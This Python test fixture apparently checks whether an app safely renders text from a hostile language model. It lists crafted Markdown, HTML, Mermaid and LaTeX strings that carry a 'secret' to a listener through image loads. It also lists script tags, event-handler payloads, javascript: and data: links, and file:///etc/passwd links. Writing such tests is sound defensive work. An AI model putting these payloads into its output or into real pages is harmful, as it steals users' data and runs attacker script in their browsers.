"""Texts that a hostile model could write, each with its own trap on a listener.

``URL`` in a text becomes the address of the trap; ``HOST`` the same without its scheme.
Scripts that run set ``window.caught``.
"""

from dataclasses import dataclass
from pathlib import Path
from urllib.parse import urlsplit

SCRIPT = Path(__file__).parents[1] / "crafted_app" / "app.py"
"""The app that draws them."""


@dataclass(frozen=True, slots=True)
class Crafted:
    """One hostile text.

    Attributes:
        name: What it tries; also the path of its trap.
        text: Markdown, with ``URL`` and ``HOST`` for the trap.
    """

    name: str
    text: str

    def aimed_at(self, listener_url: str) -> str:
        """Return the text with its trap at ``listener_url``."""
        url = f"{listener_url}/{self.name}?secret=1234"
        host = url.removeprefix(urlsplit(url).scheme + "://")
        return self.text.replace("URL", url).replace("HOST", host)


_MERMAID = 'graph TD\n  A@{ img: "URL", label: "chart", w: 60, h: 60 }\n'

_TEXTS = {
    # Pictures, in every form that Markdown knows.
    "inline": "Here is the chart you asked for: ![sales](URL)",
    "titled": '![sales](URL "Sales by quarter") as promised.',
    "angle-brackets": "![sales](<URL>)",
    "empty-alt": "Done.![](URL)",
    "reference": "See ![the map][map].\n\n[map]: URL",
    "collapsed": "See ![the map][].\n\n[the map]: URL",
    "shortcut": "See ![the map].\n\n[the map]: URL 'North'",
    "definition-below-newline": "![the map][m]\n\n[m]:\n  URL",
    "definition-in-quote": "![plan]\n\n> [plan]: URL",
    "protocol-relative": "![logo](//HOST)",
    "encoded-address": "![logo](URL&amp;part=&#50;)",
    "percent-encoded": "![logo](URL%26a%3D1)",
    "alt-over-two-lines": "![a long\nstory](URL)",
    "nested-alt": "![one ![two](URL) three](URL&outer=1)",
    "in-a-link": "[![badge](URL)](https://example.com/ci)",
    "in-emphasis": "**bold ![x](URL)** and *_![y](URL&y=1)_*",
    "in-a-heading": "## Results ![x](URL)",
    "in-a-setext-heading": "Results ![x](URL)\n===",
    "in-a-table": "| item | picture |\n|---|---|\n| cat | ![cat](URL) |",
    "in-a-list": "1. first\n   - ![x](URL)",
    "in-a-quote": "> > ![x](URL)",
    "in-a-footnote": "A claim.[^src]\n\n[^src]: ![x](URL)",
    "in-an-indented-footnote": "A claim.[^s]\n\n[^s]: Text.\n\n    ![x](URL)",
    "in-a-colour": ":red[alarm ![x](URL)]",
    "in-a-container": ":::note\n![x](URL)\n:::",
    "after-an-escaped-tick": "\\`![x](URL)`",
    "after-an-unpaired-tick": "It is 5` long.\n\n![x](URL) `",
    "tick-in-math": "$`$ ![x](URL) `",
    "tick-in-a-directive": ":red[`] ![x](URL) `",
    "tick-in-an-address": "[a](<`>) ![x](URL) `",
    "tick-in-a-bare-address": "https://example.com/` ![x](URL) `",
    "tick-in-a-tag": '<a title="`"> ![x](URL) `',
    "tick-across-cells": "| a ` | b |\n|---|---|\n| ![x](URL) ` | c |",
    "fence-in-math": "$$\n```\n$$\n![x](URL)\n```",
    "fence-in-a-comment": "<!--\n```\n-->\n\n![x](URL)\n```",
    "fence-ended-by-its-container": ":::note\n```\n:::\n![x](URL)\n```",
    "indented-as-a-whole": "    ![x](URL)",
    "picture-of-data": "![x](data:image/svg+xml;base64,PHN2Zy8+)![y](URL)",
    # Behind what the browser's parser drops, or reads in another way.
    "behind-a-byte-order-mark": "\ufeff![x](URL)",
    "fence-behind-a-byte-order-mark": "\ufeff```\n\n```\n![x](URL)\n```",
    "definition-behind-a-byte-order-mark": "\ufeff[m]: URL\n\n![m]",
    "behind-a-nul": "\0![x](URL)",
    "fence-behind-a-nul": "\0```\n\n```\n![x](URL)\n```",
    "split-by-controls": "!\x1b[x](URL) !\x07[x](URL) !\ufeff[x](URL) !\u200b[x](URL)",
    "odd-line-ends": "```\r\r```\u2028![x](URL)\x85```\x0c![y](URL)\x0b```",
    "entities": "&#33;[x](URL) !&#91;x](URL) !&lsqb;x](URL) ![x]&#40;URL)",
    "behind-tildes-and-arrows": "~5 -> ![x](URL)<br>![y](URL) :smile:![z](URL)",
    # Diagrams, which load pictures too.
    "mermaid": f"```mermaid\n{_MERMAID}```",
    "mermaid-tildes": f"~~~mermaid\n{_MERMAID}~~~",
    "mermaid-in-capitals": f"```MerMaid title=x\n{_MERMAID}```",
    "mermaid-as-an-entity": f"~~~ m&#101;rm&#x61;id\n{_MERMAID}~~~",
    "mermaid-behind-a-class": f"```-language-mermaid\n{_MERMAID}```",
    "mermaid-in-a-list": "- ```mermaid\n  "
    + _MERMAID.strip().replace("\n", "\n  ")
    + "\n  ```",
    "mermaid-unfinished": f"````mermaid\n{_MERMAID}",
    # HTML, which is to stay text.
    "img-tag": '<img src="URL">',
    "img-onerror": '<img src=x onerror="window.caught=1">',
    "script-tag": "<script>window.caught=1;fetch('URL')</script>",
    "iframe": '<iframe src="URL"></iframe>',
    "iframe-srcdoc": '<iframe srcdoc="<script>parent.caught=1</script>"></iframe>',
    "svg-onload": '<svg onload="window.caught=1"><image href="URL"/></svg>',
    "style-import": "<style>@import url(URL); body { display: none }</style>",
    "meta-refresh": '<meta http-equiv="refresh" content="0; url=URL">',
    "base-and-link": '<base href="URL"><link rel="stylesheet" href="URL">',
    "video-poster": '<video poster="URL" src="URL" autoplay></video>',
    "object-embed": '<object data="URL"></object><embed src="URL">',
    "form-autofocus": '<form action="URL"><input autofocus onfocus="window.caught=1">',
    "details-with-picture": "<details>\n<summary>more</summary>\n\n![x](URL)\n",
    # Links and everything else that looks harmless.
    "javascript-link": "[press](javascript:window.caught=1)",
    "javascript-link-encoded": "[press](&#106;ava&Tab;script&colon;window.caught=1)",
    "vbscript-reference": "[press][v]\n\n[v]: vbscript:window.caught=1",
    "data-link": "[press](data:text/html,<script>window.caught=1</script>)",
    "file-autolink": "<file:///etc/passwd> and [press](file:///etc/passwd)",
    "file-autolink-behind-an-address": "http://a.example/b<file:///etc/passwd>",
    "latex-picture": "$\\includegraphics{URL}$ and $\\href{URL}{x}$ $$\\url{URL}$$",
    "latex-style": "$\\htmlStyle{background:url(URL)}{x} \\htmlData{a=b}{y}$",
    "colour-address": ':color[x]{foreground="red" background="url(URL)"}',
    "help-bubble": ":help[![x](URL)] :material/delete: :shimmer[wait] :streamlit:",
}

CRAFTED = tuple(Crafted(name, text) for name, text in _TEXTS.items())
